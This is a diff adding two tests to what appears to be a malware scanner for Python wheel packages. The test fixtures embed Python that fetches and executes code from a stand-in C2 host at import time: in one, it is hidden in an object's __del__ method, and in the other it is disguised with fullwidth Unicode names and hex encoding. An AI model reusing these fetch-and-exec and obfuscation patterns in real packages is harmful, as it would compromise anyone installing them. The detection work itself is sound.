@@ -200,3 +200,28 @@ test('timers, examples, import hooks and coroutines of honest code stay silent',
 
   expect(await inspect('remote-code', file)).toEqual([]);
 });
+
+test('what the last method of an object runs is malware at import: nobody has to call it', async () => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'from urllib.request import urlopen',
+      'class Session:',
+      '    def __del__(self):',
+      "        exec(urlopen('https://c2.tools.invalid/z').read())",
+      '_session = Session()',
+    ),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 4 },
+  ]);
+});
+
+test('source in bytes is read in its own encoding: names in wide letters are what Python takes them for', async () => {
+  const code = Buffer.from('ｅｘｅｃ(urlopen("https://c2.tools.invalid/w").ｒｅａｄ())').toString('hex');
+  const file = wheel({
+    'pkg/__init__.py': python('from urllib.request import urlopen', `exec(bytes.fromhex('${code}'))`),
+  });
+
+  expect(await inspect('remote-code', file)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
